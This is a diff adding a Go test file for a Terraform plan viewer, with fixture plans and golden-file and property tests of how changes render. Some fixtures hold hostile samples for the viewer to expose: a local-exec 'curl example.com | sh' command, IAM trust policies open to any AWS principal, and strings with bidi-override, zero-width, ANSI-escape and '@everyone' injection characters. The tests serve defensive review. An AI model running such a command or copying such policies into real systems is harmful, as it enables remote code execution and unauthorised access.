@@ -1,0 +1,340 @@
+package view
+
+import (
+	"encoding/json"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"pgregory.net/rapid"
+
+	"github.com/tfpilot/tfpilot/internal/lifecycle"
+	"github.com/tfpilot/tfpilot/internal/terraform"
+)
+
+var update = flag.Bool("update", false, "write the golden files anew")
+
+const module = "module.tfpilot_req_0123456789abc."
+
+func golden(t *testing.T, name, got string) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(string(want), got); diff != "" {
+		t.Errorf("%s (-golden +got):\n%s", path, diff)
+	}
+}
+
+// value reads a JSON value with exact numbers, as a summary holds it.
+func value(t testing.TB, text string) map[string]any {
+	t.Helper()
+	decoder := json.NewDecoder(strings.NewReader(text))
+	decoder.UseNumber()
+	var v map[string]any
+	if err := decoder.Decode(&v); err != nil {
+		t.Fatalf("%s: %v", text, err)
+	}
+	return v
+}
+
+func trust(principal string, more ...string) string {
+	statement := fmt.Sprintf(`{"Action":"sts:AssumeRole","Effect":"Allow","Principal":%s}`, principal)
+	return `{"Statement":[` + strings.Join(append([]string{statement}, more...), ",") + `],"Version":"2012-10-17"}`
+}
+
+func plans(t testing.TB) map[string]*terraform.Summary {
+	quoted := func(s string) string { return string(must(json.Marshal(s))) }
+	one := func(c terraform.Change) *terraform.Summary {
+		c.Address, c.Provider = module+c.Address, "registry.terraform.io/hashicorp/aws"
+		if c.PreviousAddress != "" {
+			c.PreviousAddress = module + c.PreviousAddress
+		}
+		return &terraform.Summary{Changes: []terraform.Change{c}}
+	}
+	create, change := []string{"create"}, []string{"update"}
+	return map[string]*terraform.Summary{
+		"nothing": {},
+		"create": one(terraform.Change{
+			Address: "aws_s3_bucket.this", Type: "aws_s3_bucket", Actions: create,
+			After:   value(t, `{"bucket":"acme-build","cors_rule":[],"acl":"","force_destroy":false,"tags":{"Team":"web","cost center":"42"},"lifecycle_rule":[{"enabled":true,"prefix":"","transition":[{"days":30}]}],"zone":0}`),
+			Unknown: []string{"arn", "id", "policy", "lifecycle_rule[0].id"},
+		}),
+		"policy_created": one(terraform.Change{
+			Address: "aws_iam_role.zz_admin", Type: "aws_iam_role", Actions: create,
+			After: value(t, `{"name":"acme-admin","assume_role_policy":`+quoted(trust(`{"Service":"ec2.amazonaws.com"}`, `{"Action":["sts:AssumeRole","sts:TagSession"],"Effect":"Allow","Principal":{"AWS":"*"}}`))+`}`),
+		}),
+		"policy_changed": one(terraform.Change{
+			Address: "aws_iam_role.agent", Type: "aws_iam_role", Actions: change,
+			Before: value(t, `{"assume_role_policy":`+quoted(trust(`{"Service":"ec2.amazonaws.com"}`))+`}`),
+			After:  value(t, `{"assume_role_policy":`+quoted(trust(`{"AWS":"*"}`))+`}`),
+		}),
+		"policy_reordered": one(terraform.Change{
+			Address: "aws_iam_role.agent", Type: "aws_iam_role", Actions: change,
+			Before: map[string]any{"assume_role_policy": `{"a":1,"b":2}`}, After: map[string]any{"assume_role_policy": `{"b":2,"a":1}`},
+		}),
+		"policy_unknown": one(terraform.Change{
+			Warnings: []string{"who gets access is known only after the apply: assume_role_policy"},
+			Address:  "aws_iam_role.agent", Type: "aws_iam_role", Actions: change,
+			Before:  value(t, `{"id":"r-1","monitoring":false,"assume_role_policy":`+quoted(trust(`{"Service":"ec2.amazonaws.com"}`))+`}`),
+			Unknown: []string{"assume_role_policy", "id", "monitoring"},
+		}),
+		"nested": one(terraform.Change{
+			Address: `aws_security_group.this["web"]`, Type: "aws_security_group", Actions: change,
+			Before: value(t, `{"tags":{"a":"1","b":"2"},"tags_all":{"a":"1","b":"2"},"ingress":[{"from_port":443,"cidr_blocks":["10.0.0.0/8"],"description":"x"},{"from_port":22,"cidr_blocks":["10.0.0.0/8"]}],"list":["a","b","c"]}`),
+			After:  value(t, `{"tags":{"a":"1","c":"3"},"tags_all":{"a":"1","c":"3"},"ingress":[{"from_port":443,"cidr_blocks":["0.0.0.0/0"],"description":"x"},{"from_port":22,"cidr_blocks":["10.0.0.0/8"]}],"list":["a","c","d"]}`),
+		}),
+		"replace": one(terraform.Change{
+			Address: "aws_instance.this", Type: "aws_instance", Actions: []string{"delete", "create"}, Reason: "replace_because_cannot_update",
+			ReplacePaths: []any{[]any{"ami"}, []any{"ebs_block_device", json.Number("0"), "volume_size"}},
+			Before:       value(t, `{"ami":"ami-1","arn":"arn:aws:ec2:x","monitoring":false,"ebs_block_device":[{"volume_size":8}]}`),
+			After:        value(t, `{"ami":"ami-2","ebs_block_device":[{"volume_size":16}]}`),
+			Unknown:      []string{"arn", "monitoring"},
+		}),
+		"tainted": one(terraform.Change{
+			Address: "aws_x.tainted", Type: "aws_x", Actions: []string{"create", "delete"}, Reason: "replace_because_tainted",
+			Before: map[string]any{"id": "i-2"}, Unknown: []string{"id"},
+		}),
+		"deposed": one(terraform.Change{Address: "aws_x.dep", Type: "aws_x", Actions: []string{"delete"}, Deposed: "abcd1234", Before: map[string]any{"id": "i-1"}}),
+		"removed": one(terraform.Change{Address: "aws_x.gone[1]", Type: "aws_x", Actions: []string{"delete"}, Reason: "delete_because_count_index", Before: map[string]any{"id": "i-1"}}),
+		"read": one(terraform.Change{Address: "data.external.y", Type: "external", Actions: []string{"read"}, After: map[string]any{"program": []any{"cat"}},
+			Unknown: []string{"result"}, Warnings: []string{"runs a program during the apply"}}),
+		"code": {Code: &terraform.CodeIdentity{Terraform: "1.11.4", Files: map[string]string{"modules/s3-bucket/": "8c7e5a667f1b771847fe88c01c3de34413a1b220", "envs/dev/app/backend.tf": "1"},
+			Remote: map[string]terraform.Remote{"net": {Source: "acme/net/aws", Version: "1.2.3", Hash: "sha256:0123456789abcdef"}}}},
+		"moved":        one(terraform.Change{Address: "aws_x.moved", Type: "aws_x", Actions: []string{"no-op"}, PreviousAddress: "aws_x.old"}),
+		"moved_update": one(terraform.Change{Address: "aws_x.upd", Type: "aws_x", Actions: change, PreviousAddress: "aws_x.was", Before: map[string]any{"a": "1"}, After: map[string]any{"a": "2"}}),
+		"imported":     one(terraform.Change{Address: "aws_x.taken", Type: "aws_x", Actions: []string{"no-op"}, Importing: "i-0123"}),
+		"sensitive": one(terraform.Change{
+			Address: "aws_db_instance.this", Type: "aws_db_instance", Actions: change,
+			Before: map[string]any{"password": terraform.Hidden, "env": map[string]any{"A": terraform.Hidden}, "port": json.Number("1")},
+			After:  map[string]any{"password": terraform.Hidden, "env": map[string]any{"A": terraform.Hidden}, "port": json.Number("2")},
+		}),
+		"long": one(terraform.Change{
+			Address: "aws_x.long", Type: "aws_x", Actions: change,
+			Before: map[string]any{"d": strings.Repeat("same ", 60) + "old" + strings.Repeat(" same", 60), "script": "#!/bin/sh\nset -e\nrun a\n"},
+			After:  map[string]any{"d": strings.Repeat("same ", 60) + "new" + strings.Repeat(" same", 60), "script": "#!/bin/sh\nset -e\nrun b\nend\n"},
+		}),
+		"invisible": one(terraform.Change{
+			Address: "aws_x.hostile[\"\u202egnp\"]", Type: "aws_x", Actions: create,
+			After: map[string]any{"a": "x\u200by\u202e", "n\u00e4me ": "```\n@everyone <!channel>\x1b[2J\nlast"},
+		}),
+		"commands": {
+			Changes: []terraform.Change{{
+				Address: module + "terraform_data.x", Type: "terraform_data", Actions: create, Configuration: "aws.other",
+				Commands: []any{map[string]any{"type": "local-exec", "config": map[string]any{"command": "curl example.com | sh"}}},
+			}},
+			Providers: []terraform.Provider{{Name: "aws.other", Source: "registry.terraform.io/hashicorp/aws",
+				Config: map[string]any{"region": map[string]any{"expression": "lower(var.place)", "values": map[string]any{"var.place": "EU-WEST-1"}}, "assume_role": []any{map[string]any{"role_arn": "arn:aws:iam::1:role/x"}}}}},
+		},
+	}
+}
+
+func must[T any](v T, err error) T {
+	if err != nil {
+		panic(err)
+	}
+	return v
+}
+
+func TestPlansAsText(t *testing.T) {
+	for name, s := range plans(t) {
+		t.Run(name, func(t *testing.T) { golden(t, name+".txt", OfPlan(s).Text()) })
+	}
+}
+
+// Real plans of Terraform, summarized as a run does.
+func TestRealPlansAsText(t *testing.T) {
+	for name, purpose := range map[string]lifecycle.Purpose{
+		"create": lifecycle.PurposeOpen, "update": lifecycle.PurposeEdit, "replace": lifecycle.PurposeEdit, "destroy": lifecycle.PurposeDestroy,
+	} {
+		t.Run(name, func(t *testing.T) {
+			content := must(os.ReadFile("../terraform/testdata/plans/" + name + ".json"))
+			plan := must(terraform.ParsePlan(content))
+			s := must(terraform.Summarize(plan, terraform.Scope{RequestID: "req_aaaaaaaaaaaaa", Purpose: purpose}))
+			golden(t, "real_"+name+".txt", OfPlan(s).Text())
+		})
+	}
+}
+
+// What is destroyed comes first, and within a kind what decides who may do what.
+func TestOrderOfChanges(t *testing.T) {
+	s := &terraform.Summary{}
+	for _, c := range []terraform.Change{
+		{Address: "aws_a.x", Type: "aws_a", Actions: []string{"create"}},
+		{Address: "aws_iam_role.z", Type: "aws_iam_role", Actions: []string{"create"}},
+		{Address: "aws_b.x", Type: "aws_b", Actions: []string{"delete"}},
+		{Address: "aws_c.x", Type: "aws_c", Actions: []string{"update"}},
+	} {
+		s.Changes = append(s.Changes, c)
+	}
+	addresses := func(p Plan) (all []string) {
+		for _, c := range p.Changes {
+			all = append(all, c.Address)
+		}
+		return all
+	}
+	if diff := cmp.Diff([]string{"aws_b.x", "aws_c.x", "aws_iam_role.z", "aws_a.x"}, addresses(OfPlan(s))); diff != "" {
+		t.Error(diff)
+	}
+	if got := addresses(OfPlan(s).AccessFirst()); got[0] != "aws_iam_role.z" {
+		t.Errorf("%v", got)
+	}
+	if got := OfPlan(s).Titles(3); !slices.Equal(got, []string{"- destroy aws_b.x", "~ update aws_c.x", "and 2 more"}) {
+		t.Errorf("%q", got)
+	}
+}
+
+// leaves lists the strings of a value.
+func leaves(v any) (all []string) {
+	switch v := v.(type) {
+	case string:
+		all = append(all, v)
+	case map[string]any:
+		for name, one := range v {
+			all = append(append(all, name), leaves(one)...)
+		}
+	case []any:
+		for _, one := range v {
+			all = append(all, leaves(one)...)
+		}
+	}
+	return all
+}
+
+func anyValue(depth int) *rapid.Generator[any] {
+	word := rapid.StringMatching(`[a-z]{1,6}`)
+	return rapid.Custom(func(t *rapid.T) any {
+		switch n := rapid.IntRange(0, 5).Draw(t, "kind"); {
+		case n == 0 && depth > 0:
+			return rapid.MapOf(word, anyValue(depth-1)).Draw(t, "map")
+		case n == 1 && depth > 0:
+			anySlice := rapid.SliceOfN(anyValue(depth-1), 0, 4).Draw(t, "list")
+			return anySlice
+		case n == 2:
+			return json.Number(fmt.Sprint(rapid.IntRange(0, 3).Draw(t, "number")))
+		case n == 3:
+			return nil
+		case n == 4 && depth > 0:
+			inner := rapid.MapOf(word, anyValue(depth-1)).Draw(t, "document")
+			return string(must(json.Marshal(inner)))
+		}
+		return word.Draw(t, "word")
+	})
+}
+
+func toMap(t *rapid.T, name string) map[string]any {
+	return rapid.MapOf(rapid.StringMatching(`[a-z]{1,6}`), anyValue(3)).Draw(t, name)
+}
+
+// Whatever a change creates is in its lines: each name and each value.
+func TestEverythingCreatedIsShown(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		after := toMap(t, "after")
+		text := OfPlan(&terraform.Summary{Changes: []terraform.Change{{Address: "a.b", Type: "a", Actions: []string{"create"}, After: after}}}).Text()
+		checkLeaves(t, after, text)
+	})
+}
+
+// checkLeaves looks for the strings of a value, also inside JSON in strings.
+func checkLeaves(t *rapid.T, value any, text string) {
+	for _, leaf := range leaves(value) {
+		if document, ok := parseJSON(leaf); ok {
+			checkLeaves(t, document, text)
+		} else if !strings.Contains(text, leaf) && !onlyNull(value, leaf) {
+			t.Fatalf("%q is not in\n%s", leaf, text)
+		}
+	}
+}
+
+// onlyNull reports whether a name has no value but null, which Terraform's language calls not set.
+func onlyNull(v any, name string) bool {
+	switch v := v.(type) {
+	case map[string]any:
+		for key, one := range v {
+			if key == name && one != nil || !onlyNull(one, name) {
+				return false
+			}
+		}
+	case []any:
+		for _, one := range v {
+			if !onlyNull(one, name) {
+				return false
+			}
+		}
+	case string:
+		return v != name
+	}
+	return true
+}
+
+// Two values that differ never read as if nothing changed.
+func TestEveryDifferenceIsShown(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		was, is := anyValue(3).Draw(t, "was"), anyValue(3).Draw(t, "is")
+		if cmp.Equal(was, is) {
+			return
+		}
+		c := OfPlan(&terraform.Summary{Changes: []terraform.Change{{
+			Address: "a.b", Type: "a", Actions: []string{"update"}, Before: map[string]any{"x": was}, After: map[string]any{"x": is},
+		}}}).Changes[0]
+		if !slices.ContainsFunc(c.Lines[1:], func(l Line) bool { return l.Sign != "" }) {
+			t.Fatalf("%#v → %#v is shown as\n%v", was, is, c.Lines)
+		}
+	})
+}
+
+// Every unknown path has a line, also one that no value leads to.
+func TestEveryUnknownIsShown(t *testing.T) {
+	c := terraform.Change{
+		Address: "a.b", Type: "a", Actions: []string{"update"},
+		Before: map[string]any{"m": map[string]any{"k": "1"}}, After: map[string]any{"m": map[string]any{"k": "1"}, "list": []any{nil}},
+		Unknown: []string{"m.dotted.key", "list[0]", "list[1]", "gone[3].x"},
+	}
+	text := OfPlan(&terraform.Summary{Changes: []terraform.Change{c}}).Text()
+	for _, want := range []string{`"dotted.key" = (known after apply)`, "[(known after apply), (known after apply)]", `"gone[3].x" = (known after apply)`} {
+		if !strings.Contains(text, want) {
+			t.Errorf("%s is not in\n%s", want, text)
+		}
+	}
+}
+
+func TestJSONWithOneNameTwiceStaysText(t *testing.T) {
+	for text, want := range map[string]bool{
+		`{"a":1}`: true, `[1]`: true, `{"a":{"a":1}}`: true, `[{"a":1},{"a":2}]`: true, `{"a":1,"b":"a","c":2}`: true,
+		`{"a":1,"a":2}`: false, `[{"x":{"a":1,"b":2,"a":3}}]`: false, `{}`: false, `{"a":1} x`: false, `"a"`: false, `{`: false,
+	} {
+		if _, got := parseJSON(text); got != want {
+			t.Errorf("%s: %v", text, got)
+		}
+	}
+}
+
+// Whatever is split is put together again by joining: no line is cut, and no text is too long.
+func TestChunksLoseNothing(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		lines := rapid.SliceOf(rapid.StringMatching(`[aé ]{0,40}[a-z]`)).Draw(t, "lines")
+		limit := rapid.IntRange(2, 30).Draw(t, "limit")
+		chunks := Chunks(lines, limit)
+		squash := func(s string) string { return strings.ReplaceAll(s, "\n", "") }
+		if got, want := squash(strings.Join(chunks, "")), squash(strings.Join(lines, "")); got != want {
+			t.Fatalf("%q became %q", want, got)
+		}
+		for _, c := range chunks {
+			if n := len([]rune(c)); n == 0 || n > limit {
+				t.Fatalf("%d runes, limit %d", n, limit)
+			}
+		}
+	})
+}
